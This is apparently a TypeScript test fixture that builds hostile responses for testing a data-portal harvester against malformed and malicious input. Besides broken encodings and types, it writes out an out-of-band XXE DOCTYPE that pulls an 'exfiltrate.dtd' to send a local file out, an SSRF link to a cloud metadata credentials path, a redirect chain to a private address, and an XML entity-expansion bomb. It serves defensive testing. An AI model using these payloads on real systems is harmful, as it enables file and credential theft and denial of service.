// The hostile answers no other test sends: each one a function of what the healthy portal would
// have answered. Written from how real servers and attackers break documents, not from Federa's
// parsers.
import { gzipSync } from 'node:zlib';
import type { HostileAnswer, HostileRequest, Hostility } from './hostile-proxy.js';

const json = (body: unknown): string => JSON.stringify(body);

/** A UTF-8 byte order mark, then the page with raw NUL bytes inside its first string value. */
export const bomAndNulBytes: Hostility = async ({ upstream }) => {
  const { text, contentType } = await upstream();
  const poisoned = text.replace(/":\s*"/, (m) => `${m}\u0000\u0000`);
  return { headers: { 'content-type': contentType }, body: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(poisoned)]) };
};

interface CkanPage {
  result?: { results?: Array<Record<string, unknown>> | Record<string, unknown>; count?: number };
}

/** A CKAN package_search whose `results` is an object keyed by id instead of a list. */
export const resultsAsObject: Hostility = async ({ url, upstream }) => {
  if (!url.pathname.endsWith('/package_search')) return undefined;
  const page = JSON.parse((await upstream()).text) as CkanPage;
  const list = Array.isArray(page.result?.results) ? page.result.results : [];
  if (page.result) page.result.results = Object.fromEntries(list.map((p) => [String(p['id']), p]));
  return { headers: { 'content-type': 'application/json;charset=utf-8' }, body: json(page) };
};

/** One record (by CKAN id) that changed at the source, with numbers where text is expected deep
 * inside it: a resource's URL and format, a tag's name. */
export function numbersDeepInRecord(id: () => string): Hostility {
  return async ({ url, upstream }) => {
    if (!url.pathname.endsWith('/package_search') && !url.pathname.endsWith('/package_show')) return undefined;
    const page = JSON.parse((await upstream()).text) as { result?: unknown };
    const packages = Array.isArray((page.result as CkanPage['result'])?.results) ? ((page.result as CkanPage['result'])!.results as Array<Record<string, unknown>>) : [page.result as Record<string, unknown>];
    for (const p of packages) {
      if (p?.['id'] !== id()) continue;
      p['metadata_modified'] = '2026-11-26T12:00:00.000000';
      const resources = p['resources'];
      if (Array.isArray(resources) && resources[0] !== undefined) Object.assign(resources[0] as object, { url: 8080, format: 42 });
      const tags = p['tags'];
      if (Array.isArray(tags) && tags[0] !== undefined) Object.assign(tags[0] as object, { name: 7, display_name: 7 });
    }
    return { headers: { 'content-type': 'application/json;charset=utf-8' }, body: json(page) };
  };
}

/** A Turtle page cut in the middle of a triple, inside an IRI, as a proxy's time-out leaves it. */
export const turtleCutMidTriple: Hostility = async ({ upstream }) => {
  const { text, contentType } = await upstream();
  const middle = Math.floor(text.length / 2);
  const iri = text.indexOf(' <http', middle);
  const cut = iri >= 0 ? iri + 8 : middle;
  return { headers: { 'content-type': contentType }, body: text.slice(0, cut) };
};

/** A Hub v3 page whose `links.next` sends the harvester to another host: a private address serving
 * cloud credentials. */
export function hubNextElsewhere(elsewhere: string): Hostility {
  return async ({ upstream }) => {
    const { text, contentType } = await upstream();
    const page = JSON.parse(text) as { links?: Record<string, unknown> };
    page.links = { ...page.links, next: `${elsewhere}/latest/meta-data/iam/security-credentials/?page%5Bnumber%5D=2` };
    return { headers: { 'content-type': contentType }, body: json(page) };
  };
}

/** A CSW answer whose DOCTYPE pulls in an external DTD and declares parameter entities (the
 * out-of-band XXE that sends a local file to the attacker's server). */
export function cswParameterEntities(dtdServer: string): Hostility {
  return async ({ upstream }) => {
    const { text, contentType } = await upstream();
    const doctype =
      `<!DOCTYPE csw:GetRecordsResponse SYSTEM "${dtdServer}/evil.dtd" [\n` +
      `  <!ENTITY % file SYSTEM "file:///etc/hostname">\n` +
      `  <!ENTITY % dtd SYSTEM "${dtdServer}/exfiltrate.dtd">\n` +
      `  %dtd;\n]>`;
    const body = text.replace(/^(<\?xml[^>]*\?>)?/, (declaration) => `${declaration}\n${doctype}\n`);
    return { headers: { 'content-type': contentType }, body };
  };
}

/** A Socrata page sent as XML (a gateway's error document in place of the API's JSON). */
export const socrataAsXml: Hostility = async () => ({
  headers: { 'content-type': 'text/xml; charset=utf-8' },
  body: '<?xml version="1.0" encoding="UTF-8"?><Error><Code>InternalError</Code><Message>We encountered an internal error.</Message></Error>',
});

/** An Opendatasoft page gzip-compressed but declared `application/octet-stream`, without a
 * Content-Encoding (a CDN that compressed it twice over). */
export const opendatasoftAsOctets: Hostility = async ({ url, upstream }) => {
  if (!url.pathname.includes('/catalog/')) return undefined;
  return { headers: { 'content-type': 'application/octet-stream' }, body: gzipSync(Buffer.from((await upstream()).text)) };
};

/** A redirect chain on the portal that ends at `target` (a private address). */
export function redirectChain(target: string): Hostility {
  return async ({ url, base }: HostileRequest): Promise<HostileAnswer> => {
    if (!url.pathname.startsWith('/moved/')) return { status: 301, headers: { location: `${base}/moved/1${url.pathname}${url.search}` }, body: '' };
    if (url.pathname.startsWith('/moved/1/')) return { status: 302, headers: { location: `${base}/moved/2${url.pathname.slice('/moved/1'.length)}${url.search}` }, body: '' };
    return { status: 307, headers: { location: target }, body: '' };
  };
}

// An RDF/XML DCAT catalogue of three datasets, written for this test.
const RDF_OPEN =
  '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dcat="http://www.w3.org/ns/dcat#" xmlns:dct="http://purl.org/dc/terms/">';
const TOPICS = ['Tidal stations', 'Ferry crossings', 'Salt marsh surveys'];

function rdfDataset(i: number, description: string): string {
  return (
    `<dcat:Dataset rdf:about="https://maritime.example.ca/dataset/${i}"><dct:identifier>maritime-${i}</dct:identifier>` +
    `<dct:title xml:lang="en">${TOPICS[i]}</dct:title><dct:description xml:lang="en">${description}</dct:description>` +
    `<dcat:keyword xml:lang="en">coast</dcat:keyword><dct:modified>2026-03-0${i + 1}</dct:modified></dcat:Dataset>`
  );
}

export const RDF_RECORDS = TOPICS.length;

export function rdfCatalogue(doctype = '', description = (i: number) => `Records of the coast, part ${i}.`): string {
  const datasets = TOPICS.map((_, i) => rdfDataset(i, description(i))).join('');
  const members = TOPICS.map((_, i) => `<dcat:dataset rdf:resource="https://maritime.example.ca/dataset/${i}"/>`).join('');
  return `<?xml version="1.0" encoding="UTF-8"?>${doctype}${RDF_OPEN}<dcat:Catalog rdf:about="https://maritime.example.ca/catalog">${members}</dcat:Catalog>${datasets}</rdf:RDF>`;
}

/** Quadratic blowup: one entity of 64 KB (no entity inside it, so no "billion laughs") referenced
 * 20,000 times, 1.3 GB once expanded from a 400 KB document. */
export const rdfQuadraticBlowup: Hostility = async () => {
  const doctype = `<!DOCTYPE rdf:RDF [<!ENTITY tide "${'high water '.repeat(6_000)}">]>`;
  return { headers: { 'content-type': 'application/rdf+xml; charset=utf-8' }, body: rdfCatalogue(doctype, (i) => (i === 1 ? '&tide;'.repeat(20_000) : `Records of the coast, part ${i}.`)) };
};
